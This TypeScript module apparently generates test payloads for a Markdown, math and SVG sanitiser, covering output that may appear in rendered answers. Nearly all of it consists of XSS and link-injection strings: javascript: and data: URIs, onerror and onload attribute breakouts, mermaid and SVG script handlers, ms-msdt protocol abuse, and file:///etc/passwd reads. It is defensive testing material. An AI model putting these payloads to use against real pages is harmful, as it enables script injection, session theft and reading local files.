import { crossed, type Family, type Template } from '../payload'
import { ADDRESS_SPELLINGS } from '../spelling'
import { FEW_SURROUNDINGS, SURROUNDINGS } from '../surroundings'

// Markdown's own ways to an address, and the addresses that must lead nowhere by themselves.

/** Schemes that run, open a program, read a file or reach around the filters. */
const SCHEMES: readonly Template[] = [
  ({ js }) => `javascript:${js}`,
  ({ js }) => `javascript://example.com/%0A${js}`,
  ({ js }) => `javascript:void(0)%0A${js}`,
  ({ js }) => `vbscript:${js}`,
  ({ js }) => `livescript:${js}`,
  ({ js }) => `mocha:${js}`,
  ({ js }) => `view-source:javascript:${js}`,
  ({ js }) => `jar:javascript:${js}!/`,
  ({ js }) => `feed:javascript:${js}`,
  ({ js }) => `data:text/html,<script>${js}</script>`,
  ({ js }) => `data:text/html;base64,${btoa(`<script>${js}</script>`)}`,
  ({ js }) => `data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='${js}'/>`,
  ({ js }) => `data:image/svg+xml;base64,${btoa(`<svg xmlns="http://www.w3.org/2000/svg" onload="${js}"/>`)}`,
  ({ js }) => `data:application/xhtml+xml,<x xmlns='http://www.w3.org/1999/xhtml'><script>${js}</script></x>`,
  ({ js }) => `data:text/xml,<a xmlns='http://www.w3.org/1999/xhtml' onload='${js}'/>`,
  ({ js }) => `data:,${js}`,
  ({ js }) => `blob:http://latchkey/${js}`,
  ({ url }) => `filesystem:${url}/temporary/a.html`,
  ({ url }) => `file://${url.slice(7)}`,
  () => 'file:///etc/passwd',
  ({ url }) => `smb://${url.slice(7)}`,
  ({ url }) => `ftp://${url.slice(7)}`,
  ({ url }) => `ws://${url.slice(7)}`,
  ({ js }) => `ms-msdt:/id PCWDiagnostic /param "IT_BrowseForFile=${js}"`,
  ({ url }) => `search-ms:query=a&crumb=location:\\\\${url.slice(7)}`,
  ({ url }) => `ms-officecmd:{"url":"${url}"}`,
  ({ url }) => `vscode://vscode.git/clone?url=${url}`,
  ({ url }) => `intent://${url.slice(7)}#Intent;end`,
  ({ js }) => `app://latchkey/index.html?${js}`,
  ({ js }) => `devtools://devtools/bundled/inspector.html?${js}`,
  ({ js }) => `chrome://settings/?${js}`,
  ({ js }) => `about:blank#${js}`,
  ({ url }) => `//${url.slice(7)}`,
  ({ url }) => `\\\\${url.slice(7)}`,
  ({ url }) => `http:${url.slice(5).replaceAll('/', '\\')}`,
  ({ url }) => url,
  ({ url }) => `https://example.com@${url.slice(7)}`,
  ({ url }) => `mailto:a@example.com?attach=/etc/passwd&body=${url}`,
]

/** Forms in which Markdown takes an address. */
const FORMS: readonly ((address: string) => string)[] = [
  (address) => `[a](${address})`,
  (address) => `[a](<${address}>)`,
  (address) => `[a](${address} "title")`,
  (address) => `[a][b]\n\n[b]: ${address}`,
  (address) => `[b]\n\n[b]: <${address}>`,
  (address) => `<${address}>`,
  (address) => `a ${address} b`,
  (address) => `![a](${address})`,
  (address) => `![a](<${address}>)`,
  (address) => `![a][b]\n\n[b]: ${address} 'title'`,
  (address) => `[![a](${address})](${address})`,
  (address) => `[a](https://example.com/(${address}))`,
  (address) => `[a](https://example.com "${address}")`,
  (address) => `[\`a\`](${address})`,
  (address) => `![](${address})`,
]

const addresses: readonly Template[] = crossed(
  SCHEMES,
  ADDRESS_SPELLINGS,
  (scheme, spell) => (aim) => spell(scheme(aim)),
)
const plain: readonly Template[] = SCHEMES

/** Links and images that break out of their own marks. */
const BREAKOUTS: readonly Template[] = [
  ({ js }) => `[a](https://example.com"onmouseover="${js})`,
  ({ js }) => `[a](https://example.com' autofocus onfocus='${js})`,
  ({ js }) => `[a](<https://example.com" onclick="${js}>)`,
  ({ js }) => `[a](https://example.com "x" onfocus=${js} autofocus ")`,
  ({ js }) => `![a](x "t\\" onerror=\\"${js}")`,
  ({ js }) => `![a"onerror="${js}](x)`,
  ({ js }) => `![a](x"onerror="${js})`,
  ({ js }) => `![](https://example.com/a.png"onload="${js})`,
  ({ js }) => `[a]: javascript:${js} "b"\n[a]`,
  ({ js }) => `[__proto__]\n\n[__proto__]: javascript:${js}`,
  ({ js }) => `[constructor][]\n\n[constructor]: javascript:${js}`,
  ({ js }) => `[a](java\nscript:${js})`,
  ({ js }) => `[a](javascript:${js}\u0000)`,
  ({ js }) => `<javascript:${js}@example.com>`,
  ({ js }) => `<a@example.com?onload=${js}>`,
  ({ js }) => `https://example.com/"onmouseover="${js}`,
  ({ js }) => `www.example.com/'onfocus='${js}`,
  ({ js }) => `http://example.com/<img src=x onerror=${js}>`,
  ({ js }) => `[<img src=x onerror=${js}>](https://example.com)`,
  ({ js }) => `[a](https://example.com/<svg/onload=${js}>)`,
  ({ js }) => `[[a](javascript:${js})](https://example.com)`,
  ({ js }) => `[a](javascript:${js}//https://example.com)`,
  ({ js }) => `\`\`\`js"><img src=x onerror=${js}>\na\n\`\`\``,
  ({ js }) => `\`\`\`"onmouseover="${js}\na\n\`\`\``,
  ({ js }) => `~~~<script>${js}</script>\na`,
  ({ js }) => `\`\`\`mermaid\ngraph TD\nA["<img src=x onerror=${js}>"]\nclick A "javascript:${js}"\n\`\`\``,
  ({ js }) =>
    `\`\`\`mermaid\n%%{init:{"securityLevel":"loose","htmlLabels":true}}%%\nA--><img/src/onerror=${js}>\n\`\`\``,
  ({ js }) => `\`\`\`echarts\n{"formatter":"function(){${js}}"}\n\`\`\``,
  ({ js }) => `\`\`\`svg\n<svg onload=${js}>\n\`\`\``,
  ({ js }) => `\`\`\`html preview\n<script>${js}</script>\n\`\`\``,
  ({ js }) => `\`\`\`jsx live\n${js}\n\`\`\``,
  ({ js }) => `|"onload="${js}|<svg onload=${js}>|\n|:-"style="x|-:|\n|a|b|`,
  ({ js }) => `- [x" onclick="${js}] a`,
  ({ js }) => `99999999999" onfocus="${js}. a`,
  ({ js }) => `# a {#"onclick="${js}}`,
  ({ js }) => `a{onclick=${js}} **b**{.c onclick="${js}"}`,
  ({ js }) => `a[^"><img src=x onerror=${js}>]\n\n[^"><img src=x onerror=${js}>]: b`,
  ({ js }) => `:img{src=x onerror=${js}} ::iframe[a]{srcdoc="<script>${js}</script>"}`,
  ({ js }) => `[[javascript:${js}]] ![[<img src=x onerror=${js}>]]`,
  ({ url }) => `![a](${url}.png){width=1 onload=x}`,
  ({ url }) => `![a](/\\${url.slice(7)}.png)`,
  ({ url }) => `![a](data:image/svg+xml,<svg><image href="${url}.png"/></svg>)`,
  ({ url }) => `![a](${url}.png =100x100)`,
  ({ url }) => `!\\[a](${url}.png) \\![a](${url}.png) !&#91;a](${url}.png)`,
]

const MATH_BODIES: readonly Template[] = [
  ({ js }) => `\\href{javascript:${js}}{a}`,
  ({ url }) => `\\href{${url}}{a}`,
  ({ url }) => `\\url{${url}}`,
  ({ js }) => `\\url{javascript:${js}}`,
  ({ url }) => `\\includegraphics[alt=a]{${url}.png}`,
  ({ js }) => `\\includegraphics[alt=<img src=x onerror=${js}>]{x}`,
  ({ js }) => `\\htmlData{a=b" onmouseover="${js}}{a}`,
  ({ js }) => `\\htmlData{><img src=x onerror=${js}>=1}{a}`,
  ({ js }) => `\\htmlClass{a" onmouseover="${js}}{a}`,
  ({ js }) => `\\htmlId{a" onfocus="${js}}{a}`,
  ({ url }) => `\\htmlStyle{background:url(${url}.png)}{a}`,
  ({ js }) => `\\def\\a{\\href{javascript:${js}}{b}}\\a`,
  ({ js }) => `\\text{<img src=x onerror=${js}>}`,
  ({ js }) => `\\unicode{<script>${js}</script>}`,
  ({ js }) => `\\color{red;background:url(javascript:${js})}{a}`,
  ({ url }) => `\\textcolor{url(${url})}{a}`,
  ({ js }) => `\\undefined<img src=x onerror=${js}>`,
  ({ js }) => `\\style{background:url(javascript:${js})}{a}`,
  ({ js }) => `\\class{a" onload="${js}}{a}`,
  ({ js }) => `\\require{html}\\href{javascript:${js}}{a}`,
  ({ js }) => `\\gdef\\url#1{\\href{javascript:${js}}{#1}}\\url{a}`,
  ({ js }) => `\\begin{array}{c<{onload=${js}}}a\\end{array}`,
]

const MATH_FENCES: readonly ((body: string) => string)[] = [
  (body) => `$${body}$`,
  (body) => `$$${body}$$`,
  (body) => `$$\n${body}\n$$`,
  (body) => `\\(${body}\\)`,
  (body) => `\\[${body}\\]`,
  (body) => `\`\`\`math\n${body}\n\`\`\``,
  (body) => `\\begin{equation}${body}\\end{equation}`,
]

const SVG: readonly Template[] = [
  ({ js }) => `<svg onload=${js}>`,
  ({ js }) => `<svg/onload=${js}//`,
  ({ js }) => `<svg><a href="javascript:${js}"><text y=20>a</text></a></svg>`,
  ({ js }) => `<svg><a xlink:href="javascript:${js}"><rect width=9 height=9 /></a></svg>`,
  ({ js }) => `<svg><animate onbegin=${js} attributeName=x dur=1s></svg>`,
  ({ js }) => `<svg><set onbegin=${js} attributeName=x to=1></svg>`,
  ({ js }) => `<svg><a><animate attributeName=href values="javascript:${js}" /><text y=20>a</text></a></svg>`,
  ({ js }) => `<svg><animate xlink:href=#a attributeName=href to="javascript:${js}" /><a id=a><text>a</text></a></svg>`,
  ({ js }) => `<svg><foreignObject><iframe srcdoc="<script>parent.${js}</script>"></iframe></foreignObject></svg>`,
  ({ js }) => `<svg><foreignObject><img src=x onerror=${js}></foreignObject></svg>`,
  ({ js }) =>
    `<svg><use href="data:image/svg+xml,<svg id='a' xmlns='http://www.w3.org/2000/svg'><image href='x' onerror='${js}'/></svg>#a"/></svg>`,
  ({ js }) => `<svg><desc><img src=x onerror=${js}></desc></svg>`,
  ({ js }) => `<svg><title><img src=x onerror=${js}></title></svg>`,
  ({ js }) => `<svg><handler type="text/javascript" ev:event=load>${js}</handler></svg>`,
  ({ js }) => `<svg><image href=x onerror=${js} /></svg>`,
  ({ js }) => `<svg><script href="data:text/javascript,${js}" /></svg>`,
  ({ js }) => `<?xml version="1.0"?><!DOCTYPE svg [<!ENTITY a "<script>${js}</script>">]><svg>&a;</svg>`,
  ({ url }) => `<svg><style>@import url(${url}.css);</style></svg>`,
  ({ url }) => `<svg><rect fill="url(${url}.svg#a)" width=9 height=9 /></svg>`,
  ({ url }) => `<?xml-stylesheet href="${url}.css"?><svg/>`,
]

/** Everything that goes by Markdown, math or a drawing. */
export const MARKDOWN_FAMILIES: readonly Family[] = [
  { name: 'addresses in plain form', templates: crossed(FORMS, plain, (form, address) => (aim) => form(address(aim))) },
  {
    name: 'addresses spelled otherwise',
    templates: crossed(FORMS.slice(0, 5), addresses, (form, address) => (aim) => form(address(aim))),
  },
  {
    name: 'addresses somewhere in an answer',
    templates: crossed(
      SURROUNDINGS.slice(1, 12),
      plain,
      (wrap, address) => (aim) => wrap(`[a](${address(aim)}) ![b](${address(aim)})`),
    ),
  },
  {
    name: 'marks that break out',
    templates: crossed(SURROUNDINGS, BREAKOUTS, (wrap, text) => (aim) => wrap(text(aim))),
  },
  {
    name: 'math',
    templates: crossed(MATH_FENCES, MATH_BODIES, (fence, body) => [fence, body] as const).flatMap(([fence, body]) =>
      FEW_SURROUNDINGS.slice(0, 3).map(
        (wrap): Template =>
          (aim) =>
            wrap(fence(body(aim))),
      ),
    ),
  },
  { name: 'svg', templates: crossed(SURROUNDINGS, SVG, (wrap, text) => (aim) => wrap(text(aim))) },
]
